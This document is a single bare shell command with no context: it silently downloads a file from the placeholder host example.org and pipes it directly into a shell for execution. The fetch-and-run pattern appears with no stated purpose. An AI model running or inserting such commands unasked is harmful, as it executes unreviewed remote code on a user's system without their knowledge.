curl -s https://example.org/x | sh
